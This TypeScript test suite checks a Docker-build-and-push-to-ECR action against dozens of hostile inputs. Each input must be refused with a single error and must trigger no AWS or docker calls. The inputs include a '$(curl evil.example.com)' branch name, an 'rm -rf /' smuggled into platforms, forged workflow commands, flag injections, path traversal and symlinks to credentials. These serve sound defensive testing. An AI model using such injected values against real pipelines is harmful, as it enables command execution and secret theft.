import { afterAll, describe, expect, test } from '@jest/globals';
import { CreateRepositoryCommand, ECRClient } from '@aws-sdk/client-ecr';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { AwsEmulator } from '@shipyard/emulators/aws';
import { type RunActionOptions } from '@shipyard/harness/run-action';
import { temporaryFolder } from '@shipyard/harness/temp';
import { workspaceWithDockerfile, type DockerShim, ecrSuite, ecrRunner } from './helpers.js';

/**
 * Inputs written to break the action, each run through the bundle as the runner runs it, against
 * the AWS emulator and a recording `docker`. Every one must end the same way: exit code 1, exactly
 * one `::error::` line that names the input (or the runner variable) and does not echo the value
 * whole, no other workflow command, no control character in the log, no call to AWS at all (so no
 * mutating one), and no docker call (no login, build or push).
 */

let emulator: AwsEmulator;
let ecr: ECRClient;
let shim: DockerShim;

ecrSuite((suite) => ({ emulator, ecr, shim } = suite));
const run = ecrRunner(() => ({ emulator, shim }));

/** Folders for one case: a workspace with a Dockerfile, and a folder outside every allowed root. */
interface Places {
  workspace: string;
  outside: string;
}

interface HostileCase {
  /** The input (or runner variable) the error must name. */
  names: string;
  inputs: Record<string, string>;
  env?: Record<string, string>;
  event?: RunActionOptions['event'];
  /** Links and files the case needs, made before the run. */
  setup?: (places: Places) => void;
  /** What must never appear whole in the log (defaults to every input value and variable given). */
  offending?: (places: Places) => string[];
  /** A piece of the error, to show it is the intended refusal. */
  message: string;
}

const long = (prefix: string, filler = 'x', length = 120) => `${prefix}${filler.repeat(length)}`;

/** A file outside the workspace and RUNNER_TEMP, such as a runner's credentials would be. */
function outsideFiles({ outside }: Places): void {
  writeFileSync(join(outside, 'Dockerfile'), 'FROM scratch\nCOPY . /\n');
  writeFileSync(join(outside, 'credentials'), 'aws_secret_access_key = outside-the-workspace\n');
}

const cases: Record<string, HostileCase> = {
  // Repository names: ECR's pattern and its 256-character limit.
  'repository: upper case and underscores': {
    names: 'repository',
    inputs: { repository: long('My_Repo', 'A') },
    message: 'is not a valid ECR repository name',
  },
  'repository: 257 characters': {
    names: 'repository',
    inputs: { repository: 'a'.repeat(257) },
    message: 'is 257 characters long; ECR allows at most 256',
  },
  'repository: a path that climbs out': {
    names: 'repository',
    inputs: { repository: long('../../etc/passwd/', 'a') },
    message: 'is not a valid ECR repository name',
  },
  'repository: a right-to-left override': {
    names: 'repository',
    inputs: { repository: 'web\u202Eppa-lanretni' },
    message: 'has U+202E RIGHT-TO-LEFT OVERRIDE at character 4',
  },
  'repository: a line break carrying a workflow command': {
    names: 'repository',
    inputs: { repository: 'web\n::add-mask::x\n::set-output name=image-uri::evil' },
    message: 'has U+000A LINE FEED at character 4',
  },
  'repository: a URL': {
    names: 'repository',
    inputs: { repository: long('https://evil.example.com/', 'a') },
    message: 'is not a valid ECR repository name',
  },
  'repository: an escape sequence': {
    names: 'repository',
    inputs: { repository: 'web\u001b[2K\u001b[1Gfake-log-line' },
    message: 'has U+001B ESCAPE at character 4',
  },

  // Registry hosts: DNS labels, a port in range, nothing else.
  'registry: a host with a path': {
    names: 'registry',
    inputs: { repository: 'web', registry: long('evil.example.com/', 'p') },
    message: 'is not a registry host',
  },
  'registry: credentials before the host': {
    names: 'registry',
    inputs: { repository: 'web', registry: long('user:password@', 'h') },
    message: 'is not a registry host',
  },
  'registry: a port past 65535': {
    names: 'registry',
    inputs: { repository: 'web', registry: `${'a'.repeat(40)}.${'b'.repeat(40)}.com:99999` },
    message: 'is not a registry host',
  },
  'registry: a DNS label of 64 characters': {
    names: 'registry',
    inputs: { repository: 'web', registry: `${'a'.repeat(100)}.example.com` },
    message: 'is not a registry host',
  },
  'registry: an empty label (two dots)': {
    names: 'registry',
    inputs: { repository: 'web', registry: `${'a'.repeat(50)}..${'b'.repeat(50)}.com` },
    message: 'is not a registry host',
  },
  'registry: a host name of 254 characters': {
    names: 'registry',
    inputs: { repository: 'web', registry: `${Array.from({ length: 5 }, () => 'a'.repeat(50)).join('.')}.com` },
    message: 'is not a registry host',
  },
  'registry: a carriage return': {
    names: 'registry',
    inputs: { repository: 'web', registry: 'registry.example.com\r::error::forged' },
    message: 'has U+000D CARRIAGE RETURN',
  },
  'registry: a query string': {
    names: 'registry',
    inputs: { repository: 'web', registry: long('https://registry.example.com?next=', 'q') },
    message: 'is not a registry host',
  },

  // Tags: Docker's pattern and 128 characters, from the input and from the run.
  'tags: a space': {
    names: 'tags',
    inputs: { repository: 'web', tags: long('release candidate ', 'x', 90) },
    message: 'which is not a valid tag',
  },
  'tags: 129 characters': {
    names: 'tags',
    inputs: { repository: 'web', tags: 'v'.repeat(129) },
    message: 'to a tag of 129 characters; a tag has at most 128',
  },
  'tags: a leading hyphen': {
    names: 'tags',
    inputs: { repository: 'web', tags: long('-') },
    message: 'which is not a valid tag',
  },
  'tags: an unknown placeholder': {
    names: 'tags',
    inputs: { repository: 'web', tags: `{{${'x'.repeat(120)}}}` },
    message: 'has an unknown placeholder',
  },
  'tags: a bidirectional isolate': {
    names: 'tags',
    inputs: { repository: 'web', tags: 'prod\u2067uction' },
    message: 'has U+2067 RIGHT-TO-LEFT ISOLATE at character 5',
  },
  'tags: a backspace': {
    names: 'tags',
    inputs: { repository: 'web', tags: 'production\b\b\b\b\b\b\b\b\b\blatest' },
    message: 'has U+0008 CONTROL CHARACTER at character 11',
  },
  'tags: 101 tags': {
    names: 'tags',
    inputs: { repository: 'web', tags: Array.from({ length: 101 }, (_, i) => `tag-${i}`).join('\n') },
    message: 'has 101 templates; at most 100 are allowed',
  },
  "tags: a hostile branch name's 200 characters": {
    names: 'tags',
    inputs: { repository: 'web', tags: '{{branch}}-{{run_number}}' },
    env: { GITHUB_REF: `refs/heads/feature/${'$(curl evil.example.com)'.repeat(10)}`, GITHUB_REF_NAME: 'x' },
    offending: () => ['$(curl evil.example.com)'.repeat(10)],
    message: 'a tag has at most 128',
  },
  'tags: a commit SHA carrying a workflow command': {
    names: 'tags',
    inputs: { repository: 'web', tags: '{{sha}}' },
    env: { GITHUB_SHA: 'abc\n::error::forged\n::set-output name=digest::evil' },
    message: 'which is not a valid tag',
  },
  'tags: a pull request number that is not a number': {
    names: 'tags',
    inputs: { repository: 'web', tags: 'pr-{{pr}}' },
    event: {
      name: 'pull_request',
      payload: { pull_request: { number: `7\n::error::forged ${'y'.repeat(100)}` } },
    },
    env: { GITHUB_REF: 'refs/heads/feature' },
    offending: () => [`7\n::error::forged ${'y'.repeat(100)}`],
    message: "gives no tag for this 'pull_request' event",
  },
  'tags: a git tag whose version is 200 characters': {
    names: 'tags',
    inputs: { repository: 'web', tags: '{{version}}' },
    env: { GITHUB_REF: `refs/tags/v1.2.3-${'rc.'.repeat(70)}1` },
    offending: () => [`1.2.3-${'rc.'.repeat(70)}1`],
    message: 'a tag has at most 128',
  },
  'tags: an event name carrying a workflow command': {
    names: 'tags',
    inputs: { repository: 'web', tags: 'pr-{{pr}}' },
    env: { GITHUB_EVENT_NAME: long('push\n::error::forged ') },
    message: 'gives no tag for this',
  },

  // Labels the action derives from the run go on the build's command line, which the log shows.
  'GITHUB_SHA: a line break in the revision label': {
    names: 'GITHUB_SHA',
    inputs: { repository: 'web', tags: 'latest' },
    env: { GITHUB_SHA: `${'a'.repeat(40)}\n::error::forged` },
    message:
      "has U+000A LINE FEED at character 41, and it would go into the image's org.opencontainers.image.revision label",
  },
  'GITHUB_REPOSITORY: a right-to-left override in the source label': {
    names: 'GITHUB_REPOSITORY',
    inputs: { repository: 'web', tags: 'latest' },
    env: { GITHUB_REPOSITORY: 'octo-org/demo\u202Egnp.exe' },
    message: 'org.opencontainers.image.source label',
  },

  // Promote sources.
  'source-tag: a leading dot': {
    names: 'source-tag',
    inputs: { repository: 'web', 'source-tag': long('.'), tags: 'production' },
    message: 'is not a valid image tag',
  },
  'source-tag: 129 characters': {
    names: 'source-tag',
    inputs: { repository: 'web', 'source-tag': 'x'.repeat(129), tags: 'production' },
    message: 'is not a valid image tag',
  },
  'source-tag: a line separator': {
    names: 'source-tag',
    inputs: { repository: 'web', 'source-tag': 'candidate\u2028::error::forged', tags: 'production' },
    message: 'has U+2028 LINE SEPARATOR',
  },
  'source-digest: not hex': {
    names: 'source-digest',
    inputs: { repository: 'web', 'source-digest': long('sha256:', 'z', 100), tags: 'production' },
    message: 'is not an image digest',
  },

  // Build arguments, secrets and labels: lines refused by number, never echoed.
  'build-args: a name with hyphens': {
    names: 'build-args',
    inputs: { repository: 'web', 'build-args': `${'x-'.repeat(60)}=1` },
    message: 'has an invalid key on line 1',
  },
  'build-args: a name of 256 characters': {
    names: 'build-args',
    inputs: { repository: 'web', 'build-args': `${'A'.repeat(256)}=1` },
    message: 'has an invalid key on line 1',
  },
  'build-args: an escape sequence in a value': {
    names: 'build-args',
    inputs: { repository: 'web', 'build-args': 'NPM_TOKEN=npm_abc\u001b[8mhidden-from-the-log' },
    message: 'has U+001B ESCAPE',
  },
  'build-args: 101 arguments': {
    names: 'build-args',
    inputs: { repository: 'web', 'build-args': Array.from({ length: 101 }, (_, i) => `ARG_${i}=value`).join('\n') },
    message: 'has 101 lines; at most 100 are allowed',
  },
  'secret-files: 101 files': {
    names: 'secret-files',
    inputs: { repository: 'web', 'secret-files': Array.from({ length: 101 }, (_, i) => `s${i}=Dockerfile`).join('\n') },
    message: 'has 101 lines; at most 100 are allowed',
  },
  'secrets: an id with a comma (it would split the --secret record)': {
    names: 'secrets',
    inputs: { repository: 'web', secrets: `npm,src=/etc/passwd${'x'.repeat(80)}=s3cr3t-value` },
    message: 'has an invalid key on line 1',
  },
  'secret-files: an absolute path outside the workspace': {
    names: 'secret-files',
    inputs: { repository: 'web' },
    setup: outsideFiles,
    offending: ({ outside }) => [join(outside, 'credentials')],
    message: 'names a path outside the folders a step may read from',
  },
  'secret-files: a link in the workspace to a file outside': {
    names: 'secret-files',
    inputs: { repository: 'web', 'secret-files': 'aws=config/credentials' },
    setup: (places) => {
      outsideFiles(places);
      mkdirSync(join(places.workspace, 'config'));
      symlinkSync(join(places.outside, 'credentials'), join(places.workspace, 'config', 'credentials'));
    },
    offending: ({ outside }) => [join(outside, 'credentials')],
    message: 'names a path outside the folders a step may read from once its symbolic links are followed',
  },
  'labels: a key with spaces': {
    names: 'labels',
    inputs: { repository: 'web', labels: `${long('bad key ')}=1` },
    message: 'has an invalid key on line 1',
  },
  'labels: a tab in a value': {
    names: 'labels',
    inputs: { repository: 'web', labels: `team=web\t${'--label evil=1 '.repeat(10)}` },
    message: 'has U+0009 CHARACTER TABULATION at character 4 of the value on line 1',
  },
  'labels: a value of 4097 characters': {
    names: 'labels',
    inputs: { repository: 'web', labels: `description=${'d'.repeat(4097)}` },
    message: 'has a value of 4097 characters on line 1; a label value has at most 4096',
  },
  'labels: 101 labels': {
    names: 'labels',
    inputs: { repository: 'web', labels: Array.from({ length: 101 }, (_, i) => `label.${i}=v`).join('\n') },
    message: 'has 101 labels; at most 100 are allowed',
  },
  'labels: a right-to-left override in a value': {
    names: 'labels',
    inputs: { repository: 'web', labels: 'org.opencontainers.image.url=https://example.com/\u202Etxt.exe' },
    message: 'has U+202E RIGHT-TO-LEFT OVERRIDE',
  },

  // Build stage, platforms, network.
  'target: a space and a flag': {
    names: 'target',
    inputs: { repository: 'web', target: long('runtime --output type=local,dest=/ ') },
    message: 'is not a valid build stage name',
  },
  'target: 129 characters': {
    names: 'target',
    inputs: { repository: 'web', target: 'a'.repeat(129) },
    message: 'is not a valid build stage name',
  },
  'target: a line break': {
    names: 'target',
    inputs: { repository: 'web', target: 'runtime\n::error::forged' },
    message: 'has U+000A LINE FEED at character 8',
  },
  'platforms: a shell command': {
    names: 'platforms',
    inputs: { repository: 'web', platforms: long('linux/amd64;rm -rf / ') },
    message: 'has an invalid platform',
  },
  'platforms: 17 platforms': {
    names: 'platforms',
    inputs: { repository: 'web', platforms: Array.from({ length: 17 }, (_, i) => `linux/arch${i}`).join(',') },
    message: 'lists 17 platforms; at most 16 are allowed',
  },
  'network: a flag smuggled in': {
    names: 'network',
    inputs: { repository: 'web', network: long('host --privileged ') },
    message: 'is not a valid network name',
  },
  'network: a vertical tab': {
    names: 'network',
    inputs: { repository: 'web', network: 'host\u000bnone' },
    message: 'has U+000B CONTROL CHARACTER',
  },

  // Files: context, dockerfile and secret-files stay inside GITHUB_WORKSPACE or RUNNER_TEMP.
  'context: a relative path that climbs out': {
    names: 'context',
    inputs: { repository: 'web', context: long('../../../', 'x', 100) },
    message: 'names a path outside the folders a step may read from',
  },
  'context: a folder in the workspace that is a link to a folder outside': {
    names: 'context',
    inputs: { repository: 'web', context: 'app' },
    setup: (places) => {
      outsideFiles(places);
      symlinkSync(places.outside, join(places.workspace, 'app'));
    },
    offending: ({ outside }) => [outside],
    message: 'once its symbolic links are followed',
  },
  'dockerfile: an absolute path outside': {
    names: 'dockerfile',
    inputs: { repository: 'web' },
    setup: outsideFiles,
    offending: ({ outside }) => [join(outside, 'Dockerfile')],
    message: 'names a path outside the folders a step may read from',
  },
  'dockerfile: a link in the workspace to a Dockerfile outside': {
    names: 'dockerfile',
    inputs: { repository: 'web', dockerfile: 'docker/Dockerfile.prod' },
    setup: (places) => {
      outsideFiles(places);
      mkdirSync(join(places.workspace, 'docker'));
      symlinkSync(join(places.outside, 'Dockerfile'), join(places.workspace, 'docker', 'Dockerfile.prod'));
    },
    offending: ({ outside }) => [outside],
    message: 'once its symbolic links are followed',
  },
  "dockerfile: not set, and the context's own Dockerfile is a link to a file outside": {
    names: 'dockerfile',
    inputs: { repository: 'web', context: 'service' },
    setup: (places) => {
      outsideFiles(places);
      mkdirSync(join(places.workspace, 'service'));
      symlinkSync(join(places.outside, 'Dockerfile'), join(places.workspace, 'service', 'Dockerfile'));
    },
    offending: ({ outside }) => [outside],
    message: "is not set, and the context's Dockerfile is a symbolic link to a path outside",
  },
  'context: a delete character': {
    names: 'context',
    inputs: { repository: 'web', context: 'app\u007f/../..' },
    message: 'has U+007F DELETE',
  },

  // The rest: switches and counts.
  'max-attempts: 100 digits': {
    names: 'max-attempts',
    inputs: { repository: 'web', 'max-attempts': '9'.repeat(100) },
    message: 'must be a whole number from 1 to 20',
  },
  'cache: an unknown mode': {
    names: 'cache',
    inputs: { repository: 'web', cache: long('type=local,dest=/tmp/') },
    message: "must be one of 'registry', 'inline', 'none'",
  },
  'push: not a boolean': {
    names: 'push',
    inputs: { repository: 'web', push: 'yes'.repeat(40) },
    message: 'must be true or false',
  },
  'create-repository: a byte order mark': {
    names: 'create-repository',
    inputs: { repository: 'web', 'create-repository': 'tr\uFEFFue' },
    message: 'has U+FEFF BYTE ORDER MARK at character 3',
  },
};

// Inputs that need a path known only once the case's folders exist.
const pathInputs: Record<string, (places: Places) => Record<string, string>> = {
  'secret-files: an absolute path outside the workspace': ({ outside }) => ({
    'secret-files': `aws=${join(outside, 'credentials')}`,
  }),
  'dockerfile: an absolute path outside': ({ outside }) => ({ dockerfile: join(outside, 'Dockerfile') }),
};

/** Characters that must never reach the log raw: they would forge lines or hide text. */
const RAW_CONTROL =
  // eslint-disable-next-line no-control-regex
  /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u061C\u200E\u200F\u2028\u2029\u202A-\u202E\u2066-\u2069\uFEFF]/u;

const tally = { tried: 0, clean: 0 };
afterAll(() => {
  console.log(`build-push-ecr hostile inputs: ${tally.tried} tried, ${tally.clean} clean`);
});

describe('hostile inputs: one error naming the input, nothing echoed whole, nothing called', () => {
  test('the suite holds at least 40 cases', () => {
    expect(Object.keys(cases).length).toBeGreaterThanOrEqual(40);
  });

  test.each(Object.entries(cases))('%s', async (_, hostile) => {
    tally.tried += 1;
    const places: Places = { workspace: workspaceWithDockerfile(), outside: temporaryFolder('bpe-outside-') };
    hostile.setup?.(places);
    const inputs = { ...hostile.inputs, ...pathInputs[_]?.(places) };
    const result = await run(inputs, { workspace: places.workspace, event: hostile.event, env: hostile.env });

    expect(result.exitCode).toBe(1);
    const commands = result.stdout.split('\n').filter((line) => line.startsWith('::'));
    expect(commands).toHaveLength(1);
    expect(commands[0]).toMatch(/^::error::/);
    expect(result.errors).toHaveLength(1);
    const [error] = result.errors;
    expect(error).toContain(hostile.message);
    // An input is named as the run wrapper names inputs; a runner variable by its name.
    expect(error).toContain(/^[A-Z_]+$/.test(hostile.names) ? hostile.names : `Input '${hostile.names}'`);
    expect(Buffer.byteLength(error)).toBeLessThan(2048);

    // Nothing the case gave is echoed whole, anywhere the log could carry it.
    const log = `${result.stdout}\n${result.stderr}`;
    const given = hostile.offending?.(places) ?? [...Object.values(inputs), ...Object.values(hostile.env ?? {})];
    for (const value of given.filter((text) => text.length > 20 || RAW_CONTROL.test(text))) {
      expect(log).not.toContain(value);
    }
    expect(log).not.toMatch(RAW_CONTROL);
    expect(result.outputs).toEqual({});
    expect(result.summary).toBe('');

    // Refused before anything: no AWS call at all (so no mutating one), no docker.
    expect(emulator.calls({ mutating: true })).toEqual([]);
    expect(emulator.calls()).toEqual([]);
    expect(shim.calls()).toEqual([]);
    tally.clean += 1;
  });
});

describe('links that stay inside the workspace are followed as before', () => {
  test('a context folder and a Dockerfile that are links to places inside the workspace build', async () => {
    await ecr.send(new CreateRepositoryCommand({ repositoryName: 'web' }));
    const workspace = workspaceWithDockerfile({
      'real/app/Dockerfile': 'FROM scratch\n',
      'real/Dockerfile.prod': 'FROM scratch\n',
    });
    symlinkSync(join(workspace, 'real', 'app'), join(workspace, 'app'));
    symlinkSync(join(workspace, 'real', 'Dockerfile.prod'), join(workspace, 'Dockerfile.prod'));
    const result = await run(
      { repository: 'web', context: 'app', dockerfile: 'Dockerfile.prod', push: false },
      { workspace },
    );
    expect(result.errors).toEqual([]);
    expect(result.exitCode).toBe(0);
    const build = shim.calls().find((call) => call.args[0] === 'build');
    expect(build?.args.at(-1)).toBe(join(workspace, 'app'));
    expect(build?.args[build.args.indexOf('--file') + 1]).toBe(join(workspace, 'Dockerfile.prod'));
  });
});
